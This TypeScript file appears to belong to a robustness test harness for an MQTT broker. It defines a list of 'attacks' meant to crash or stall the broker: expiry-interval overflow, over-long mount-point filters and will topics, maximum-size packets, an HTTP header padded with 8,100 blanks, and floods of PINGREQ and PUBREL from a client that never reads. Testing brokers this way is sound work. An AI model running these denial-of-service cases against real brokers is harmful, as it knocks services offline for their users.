import { encodePacket } from "../../../lib/codec/mod.ts";
import { publishPacket, subscribePacket } from "../../support/raw_client.ts";
import { long, type SoloAttack } from "./attack.ts";

/** The longest text that a packet can hold is 65,535 bytes: what is put in front of this one makes it longer. */
const ALMOST = 65_530;

/** Those that would end the process, or stop it. */
export const ENDS: readonly SoloAttack[] = [
  {
    name: "expiry-overflow",
    what: "PUBLISH with the longest Message Expiry Interval, to a subscriber of 5.0",
    async run(target) {
      const subscriber = await target.enter();
      await subscriber.subscribe("expiry", 1);
      target.drain(subscriber);
      const publisher = await target.enter();
      target.drain(publisher);
      while (!target.isOver) {
        await publisher.send({
          ...publishPacket("expiry", "x", 1, 1),
          properties: { messageExpiryInterval: 0xffff_ffff },
        } as never);
        await target.pause(5);
      }
    },
  },
  {
    name: "mount-point",
    what: "SUBSCRIBE # below a mount point without a slash, and a filter that it makes too long",
    config: "mount_point tenant1\n",
    async run(target) {
      for (const filter of ["#", long(ALMOST), `${long(ALMOST)}/#`]) {
        const subscriber = await target.enter();
        await subscriber.send(subscribePacket(filter, 1));
        target.drain(subscriber);
        const publisher = await target.enter();
        await publisher.send(publishPacket("a", "x", 1, 1));
        await publisher.send(publishPacket(long(ALMOST), "x", 1, 2));
        target.drain(publisher);
        await target.pause(50);
        subscriber.close();
        publisher.close();
      }
    },
  },
  {
    name: "delayed-will-topic",
    what: "a delayed will whose topic is as long as it can be, below a mount point, with a store",
    config: "mount_point tenant1/\npersistence true\npersistence_location DIR/data\n",
    async run(target) {
      const client = await target.enter({
        clientId: "will",
        properties: { sessionExpiryInterval: 100 },
        will: {
          topicName: long(ALMOST),
          payload: new Uint8Array(1),
          qos: 1,
          retain: true,
          properties: { willDelayInterval: 1 },
        },
      });
      client.close();
      await target.pause(1500);
    },
  },
  {
    name: "response-information",
    what: "Response Information that a long Client Identifier makes too long",
    config: "response_information replies/\n",
    async run(target) {
      const client = await target.knock({
        clientId: long(ALMOST),
        properties: { requestResponseInformation: true },
      });
      target.drain(client);
      await target.pause(50);
      client.close();
    },
  },
  {
    name: "packet-grows",
    what: "the longest packet of 3.1.1, which is one byte longer in 5.0",
    config: "max_packet_size 268435460\n",
    async run(target) {
      const subscriber = await target.enter({ properties: { sessionExpiryInterval: 0 } });
      await subscriber.send({
        ...subscribePacket("grows", 1),
        properties: { subscriptionIdentifiers: [268_435_455] },
      } as never);
      target.drain(subscriber);
      const publisher = await target.enter({ protocolVersion: 4 });
      const topicBytes = 2 + "grows".length;
      const payload = new Uint8Array(268_435_455 - topicBytes);
      await target.until(publisher.send(publishPacket("grows", payload)));
      await target.pause(1000);
      publisher.close();
    },
  },
  {
    name: "request-blanks",
    what: "one HTTP request with 8,100 blanks in a header, before anybody is known",
    config: "listener PORT2 127.0.0.1\nprotocol websockets\n",
    async run(target) {
      const client = await target.open(5, target.secondPort);
      const request = `GET /mqtt HTTP/1.1\r\nX:${" ".repeat(8100)}\n\r\n\r\n`;
      await client.write(new TextEncoder().encode(request));
      await target.pause(100);
      client.close();
    },
  },
  ...["pingreq", "pubrel"].map((type): SoloAttack => ({
    name: `deaf-${type}`,
    what: `a flood of ${type.toUpperCase()} from a client that never reads the answers`,
    async run(target) {
      const client = await target.enter();
      const one = encodePacket(
        type === "pingreq" ? { type } : { type: "pubrel", packetId: 1, reasonCode: 0 },
        5,
      );
      const many = new Uint8Array(one.length * 10_000);
      for (let at = 0; at < many.length; at += one.length) many.set(one, at);
      while (!target.isOver) await target.until(client.write(many));
    },
  })),
];
